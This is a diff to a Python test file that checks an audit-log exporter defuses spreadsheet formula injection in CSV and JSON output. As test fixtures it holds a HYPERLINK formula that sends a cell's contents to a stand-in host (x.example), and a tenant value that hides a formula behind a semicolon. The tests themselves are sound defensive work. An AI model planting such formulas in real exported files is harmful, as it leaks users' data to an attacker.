@@ -20,13 +20,14 @@ from sarguard.audit import AuditLog, Query, export
 from sarguard.audit.exports import FORMATS
 from sarguard.audit.exports import parquet as parquet_export
 from sarguard.audit.exports.rows import COLUMNS
-from sarguard.audit.exports.spreadsheet import safe_cell
+from sarguard.audit.exports.spreadsheet import safe_cell, safe_json
 from sarguard.audit.records.ids import time_us
 from sarguard.errors import (
     AuditNotFoundError,
     AuditRecordError,
     MissingDependencyError,
 )
+from sarguard.types import Outcome
 from tests.audit.filled import POLICY, ask, ledger
 
 FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
@@ -90,7 +91,8 @@ def test_csv_cannot_run_in_a_spreadsheet(log: AuditLog, tmp_path: Path) -> None:
     ],
 )
 def test_formulas_are_defused(cell: str) -> None:
-    assert safe_cell(cell) == f"'{cell}"
+    assert safe_cell(cell).startswith("'")
+    assert safe_cell(cell).replace("'", "") == cell
 
 
 def test_numbers_and_words_stay() -> None:
@@ -110,7 +112,46 @@ def test_no_text_begins_a_formula(text: str) -> None:
     assert not cell.lstrip("\ufeff\u200b \t\r\n").startswith(
         tuple("=+-@\uff1d\uff0b\uff0d\uff20")
     )
-    assert cell.removeprefix("'") == text or cell == text
+    assert cell.replace("'", "") == text.replace("'", "")
+
+
+@given(
+    texts=st.lists(
+        st.text(alphabet=st.sampled_from("ab;|\t,\n\r\"' =+-@1")), min_size=2
+    )
+)
+@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
+def test_no_cell_is_a_formula_whatever_the_separator_is(
+    texts: list[str], separator: str
+) -> None:
+    line = io.StringIO(newline="")
+    writer = csv.writer(line, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
+    writer.writerow(map(safe_cell, texts))
+    file = io.StringIO(line.getvalue(), newline="")
+    for row in csv.reader(file, delimiter=separator):
+        for cell in row:
+            bare = cell.lstrip("\ufeff\u200b \t\r\n")
+            number = bare[:1] in "+-" and bare[1:2].isdigit()
+            assert number or not bare.startswith(tuple("=+-@"))
+
+
+@given(st.recursive(st.text() | st.integers(), lambda c: st.lists(c)))
+def test_json_says_the_same(value: object) -> None:
+    text = json.dumps(value, ensure_ascii=False)
+    assert json.loads(safe_json(text)) == value
+
+
+def test_a_formula_behind_a_semicolon_is_defused_everywhere(tmp_path: Path) -> None:
+    with AuditLog.open(tmp_path / "a.db") as log:
+        begun = log.started(entry="generate", tenant="x;=HYPERLINK(1)")
+        log.finished(str(begun.audit_id), outcome=Outcome.ANSWERED)
+        export(log, tmp_path / "a.csv", "csv")
+    text = (tmp_path / "a.csv").read_text(encoding="utf-8")
+    assert ";=" not in text
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert {json.loads(row["record"]).get("tenant") for row in rows} >= {
+        "x;=HYPERLINK(1)"
+    }
 
 
 def test_parquet_is_typed(log: AuditLog, tmp_path: Path) -> None:
